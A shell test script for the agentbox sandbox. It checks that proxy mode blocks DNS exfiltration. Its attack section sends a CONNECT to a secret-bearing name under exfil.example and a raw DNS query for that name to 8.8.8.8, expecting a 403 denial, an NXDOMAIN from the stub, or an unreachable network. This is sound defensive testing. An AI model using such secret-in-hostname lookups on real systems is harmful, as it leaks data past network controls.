# SPDX-License-Identifier: LicenseRef-agentbox-unlicensed
# net_dns_proxy: in proxy mode the only way out is agentbox. The probe asks the proxy to
# CONNECT to a name that carries a secret (s3cr3t-<hex>.exfil.example:443): had the proxy
# resolved or dialled it, the secret would reach the attacker's name server. It also sends a
# DNS query for that name straight to 8.8.8.8, with transparent capture on (the default) and
# off.
# Defence: the egress filter: deny first, no matching allow rule denies (HTTP 403 with
# X-Agentbox-Denied), before any lookup. With capture, every UDP query to port 53 lands at
# agentbox's DNS stub, which answers NXDOMAIN for a name no rule allows and never asks a real
# resolver (the audit's dns event shows the stub answered); with capture = off the sandbox's
# namespace has no route (ENETUNREACH).
# Control: with --allow 127.0.0.1:PORT, a CONNECT through the same proxy reaches a test HTTP
# server on the host and fetches its page through the tunnel; with --allow allowed.example,
# the same raw query for that name is answered with an address.

setup() {
	GREETING="PAGE-$(unique)"
	serve "$GREETING" http4
	cat >connect.py <<-'PY'
		import socket, sys
		target, path = sys.argv[1], sys.argv[2]
		s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
		s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
		head = b""
		while b"\r\n\r\n" not in head:
		    d = s.recv(4096)
		    if not d:
		        break
		    head += d
		status = head.split(b"\r\n")[0].decode(errors="replace")
		denied = [l for l in head.split(b"\r\n") if l.lower().startswith(b"x-agentbox-denied")]
		if " 200" not in status:
		    print("RESULT FAILED errno=0", status, *(d.decode() for d in denied))
		    sys.exit(1)
		s.sendall(f"GET {path} HTTP/1.0\r\nHost: {target}\r\n\r\n".encode())
		body = b""
		while True:
		    d = s.recv(4096)
		    if not d:
		        break
		    body += d
		print("RESULT SUCCESS through the tunnel:", body.split(b"\r\n\r\n", 1)[-1].decode(errors="replace"))
	PY
	cat >dnsq.py <<-'PY'
		import socket, struct, sys
		name, server = sys.argv[1], sys.argv[2]
		q = struct.pack("!HHHHHH", 0x5eed, 0x0100, 1, 0, 0, 0)
		q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0\0\1\0\1"
		s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
		s.settimeout(2)
		try:
		    s.sendto(q, (server, 53))
		    r = s.recv(512)
		except OSError as e:
		    print(f"RESULT FAILED errno={e.errno or 0} {e}")
		    sys.exit(1)
		an = struct.unpack("!H", r[6:8])[0]
		addr = socket.inet_ntoa(r[-4:]) if an else "-"
		print(f"RESULT ANSWERED rcode={r[3] & 15} answers={an} address={addr}")
	PY
	profile nocapture.ini python "[network]" "mode = proxy" "capture = off"
}

control() {
	local config
	ab python --net proxy --allow "127.0.0.1:$PORT_http4" -- /usr/bin/python3 connect.py "127.0.0.1:$PORT_http4" /
	# without nf_tables NAT there is no capture and no stub (agentbox warns `capture`): n/a,
	# unless the kernel's config says it has both, which makes it a failure to look at
	if grep -q '"event":"warning".*"what":"capture"' "$AUDIT"; then
		config=$(zcat /proc/config.gz 2>/dev/null || cat "/boot/config-$(uname -r)" 2>/dev/null)
		printf '%s\n' "$config" | grep -q '^CONFIG_NFT_NAT=[ym]' &&
			control_failed "capture unavailable on a kernel with nf_tables NAT" "$(evidence)"
		not_applicable "no nf_tables NAT in this kernel: no capture, no DNS stub" "$(evidence)"
	fi
	case "$RESULT" in *"$GREETING"*) ;; *) control_failed "an allowed CONNECT did not reach the host's test server" "$(evidence)" ;; esac
	local tunnel=$RESULT
	ab python --net proxy --allow allowed.example -- /usr/bin/python3 dnsq.py allowed.example 8.8.8.8
	case "$RESULT" in *"rcode=0 answers=1 address=198.18."*) ;; *) control_failed "the stub did not answer an allowed name" "$(evidence)" ;; esac
	control_ok "--allow 127.0.0.1:$PORT_http4: $tunnel; --allow allowed.example: $RESULT"
}

attack() {
	local name
	name="s3cr3t-$(head -c 8 /dev/urandom | od -An -tx1 | tr -d ' \n').exfil.example"
	ab python --net proxy -- /usr/bin/python3 connect.py "$name:443" /
	result_is SUCCESS && escaped "the proxy tunnelled to $name" "$(evidence)"
	case "$RESULT" in *" 403 "*X-Agentbox-Denied*) ;; *) escaped "no 403 with X-Agentbox-Denied for $name" "$(evidence)" ;; esac
	local denied=$RESULT
	ab python --net proxy -- /usr/bin/python3 dnsq.py "$name" 8.8.8.8
	case "$RESULT" in *"rcode=3 answers=0"*) ;; *) escaped "the query for $name to 8.8.8.8 was not answered NXDOMAIN" "$(evidence)" ;; esac
	[ "$(audit_get dns name)" = "$name" ] && [ "$(audit_get dns rcode)" = NXDOMAIN ] ||
		escaped "no dns event shows agentbox's stub answered the query for $name" "$(evidence)"
	local stub=$RESULT
	ab ./nocapture.ini -- "$BIN/sock" udp 8.8.8.8 53
	result_is SUCCESS && escaped "a DNS query to 8.8.8.8 got through with capture = off" "$(evidence)"
	result_is SENT && escaped "a DNS query to 8.8.8.8 left with capture = off" "$(evidence)"
	errno_is ENETUNREACH || escaped "no proof 8.8.8.8 was unreachable with capture = off" "$(evidence)"
	blocked "CONNECT $name:443: $(printf '%s' "$denied" | cut -d' ' -f4-); the query to 8.8.8.8: the stub's $(printf '%s' "$stub" | cut -d' ' -f3-4); capture = off: ENETUNREACH"
}
